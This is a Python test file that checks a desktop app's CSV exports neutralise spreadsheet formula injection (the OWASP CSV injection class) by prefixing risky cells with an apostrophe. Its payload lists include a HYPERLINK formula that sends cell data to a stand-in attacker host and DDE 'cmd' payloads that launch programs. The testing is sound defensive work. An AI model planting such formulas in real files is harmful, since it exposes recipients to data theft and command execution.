"""Hostile names cannot become formulas in a partner's spreadsheet (OWASP CSV injection).

A resident, complex or note whose text starts with ``=``, ``+``, ``-``, ``@``, TAB or CR is
written with a leading apostrophe in every CSV that leaves the vault: case bundles, the
optional handover CSV copies (built by SQLite), Overzicht and the import problem report. The
attack: put formula text where a partner's Excel would run it, export for real, decrypt
with the partner's key and read every CSV cell back.
"""

from __future__ import annotations

import csv
import io
import re
import uuid
from pathlib import Path

import pytest
from sqlalchemy import update

from tests.bundle_helpers import World, build_world, set_contact_resident
from waakvlam_desktop.bundles.collect import collect_handover
from waakvlam_desktop.bundles.export import export_bundle
from waakvlam_desktop.bundles.reader import verify_bytes
from waakvlam_desktop.domain.address_import.report import (
    ImportCounts,
    ImportProblem,
    ImportReport,
    report_to_csv,
)
from waakvlam_desktop.domain.exports import Period
from waakvlam_desktop.domain.spreadsheet_csv import FORMULA_STARTS, excel_csv, neutralise
from waakvlam_desktop.domain.types import VisitKind
from waakvlam_desktop.domain.visits import VisitInput, record_visit
from waakvlam_desktop.storage.models import Household, Visit
from waakvlam_desktop.storage.vault import Vault
from waakvlam_desktop.texts import Message

HOSTILE = [
    '=HYPERLINK("http://aanvaller.example/?d="&A1;"klik")',
    "=cmd|' /C calc'!A0",
    "+31 6 12345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # a reader that trims spaces would start the cell at '='
    "\u00a0=1+1",
]
# Formula text in the middle of a field: harmless as long as the field stays one cell,
# also for a reader that splits on ',' or TAB (a remembered import setting).
SPLITTABLE = ["a,=1+1", "a\t=1+1", "x, =cmd|' /C calc'!A0", "Zorgen\t@SUM(1)"]

NUMBER = re.compile(r"-?[0-9]+([.,][0-9]+)?")


def _cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def _assert_inert(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: only plain numbers may start with a minus."""
    for row in rows:
        for cell in row:
            if NUMBER.fullmatch(cell):
                continue
            assert not cell.startswith(FORMULA_STARTS), f"formula cell: {cell!r}"


@pytest.mark.parametrize("payload", HOSTILE)
def test_neutralise_prefixes_an_apostrophe_and_round_trips(payload: str) -> None:
    written = excel_csv(["naam", "aantal"], [[payload, -3]])
    rows = _cells(written.encode("utf-8"))
    _assert_inert(rows)
    assert rows[1] == ["'" + payload, "-3"]  # numbers are never rewritten
    assert rows[1][0][1:] == payload  # nothing else changed


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_no_reader_separator_cuts_a_formula_out_of_a_field(delimiter: str) -> None:
    written = excel_csv(["naam", "aantal"], [[p, 1] for p in SPLITTABLE + HOSTILE])
    text = written.removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    for row in rows:
        for cell in row:
            trimmed = cell.strip(" \u00a0")
            assert NUMBER.fullmatch(trimmed) or not trimmed.startswith(FORMULA_STARTS), (
                f"{delimiter!r} split gives formula cell {cell!r}"
            )


def test_harmless_text_and_numbers_stay_as_they_are() -> None:
    for value in ["fam. Jansen", "Öztürk-van der Heijden", "'s-Hertogenbosch", "", "3 = 3"]:
        assert neutralise(value) == value
    for number in [-1, 0, 2.5, None]:
        assert neutralise(number) == number


@pytest.fixture
def hostile_world(vault: Vault) -> World:
    world = build_world(vault)
    with vault.session() as s:
        s.execute(
            update(Household)
            .where(Household.id == world.households["fam. Jansen"])
            .values(label=HOSTILE[0])
        )
    set_contact_resident(world, "fam. Jansen", name=HOSTILE[1], phone=HOSTILE[2])
    return world


def test_case_bundle_csvs_carry_no_formula(hostile_world: World, tmp_path: Path) -> None:
    world = hostile_world
    with world.vault.session() as s:
        path = export_bundle(s, world.partners["Wijkteam"], Period.parse("2026-11"), tmp_path).path
    bundle = verify_bytes(path.read_bytes(), world.identity, world.sender)
    sheets = {name: _cells(data) for name, data in bundle.members.items() if name.endswith(".csv")}
    assert sheets, "a case bundle carries CSV files"
    every_cell = [cell for rows in sheets.values() for row in rows for cell in row]
    for row_set in sheets.values():
        _assert_inert(row_set)
    for payload in HOSTILE[:3]:
        assert "'" + payload in every_cell, f"{payload!r} did not travel as inert text"
    # data.json is not a spreadsheet: it carries the text exactly as typed.
    households = bundle.data()["households"]
    assert HOSTILE[0] in {h["label"] for h in households}


def test_handover_csv_copies_from_sqlite_carry_no_formula(vault: Vault) -> None:
    world = build_world(vault)
    ids = []
    with vault.session() as s:
        for _ in HOSTILE:
            ids.append(
                record_visit(
                    s, VisitInput(world.households["fam. Smit"], VisitKind.INFORMEEL, notes="x")
                ).visit_id
            )
    with vault.session() as s:  # as stored, without the form's trimming (a TAB stays)
        for vid, payload in zip(ids, HOSTILE, strict=True):
            s.execute(update(Visit).where(Visit.id == vid).values(notes=payload))
    with vault.session() as s:
        content = collect_handover(s, with_csv=True)
    visit = next(t for t in content.serialised if t.name == "visit")
    assert visit.csv is not None
    rows = _cells(visit.csv)
    _assert_inert(rows)
    header = rows[0]
    # Format 2: the ids travel as their 32 hex digits.
    notes = {str(uuid.UUID(r[header.index("id")])): r[header.index("notes")] for r in rows[1:]}
    for vid, payload in zip(ids, HOSTILE, strict=True):
        assert notes[vid] == "'" + payload
    # The Python writer and the SQL writer agree cell for cell.
    assert [notes[v] for v in ids] == [neutralise(p) for p in HOSTILE]


def test_import_problem_report_carries_no_formula() -> None:
    """A problem sentence that starts with the value from the file (as some do)."""
    starts_with_value = Message("test.csv_value_first", "{value} is not a house number.")
    problem = ImportProblem(2, "huisnummer", "", starts_with_value, (("value", HOSTILE[0]),))
    report = ImportReport(
        encoding="utf-8",
        delimiter=";",
        mapping={},
        dry_run=True,
        written=False,
        counts=ImportCounts(),
        errors=(problem,),
        warnings=(),
        sha256="",
    )
    rows = _cells(report_to_csv(report).encode("utf-8"))
    _assert_inert(rows)
    assert rows[1][-1] == "'" + HOSTILE[0] + " is not a house number."
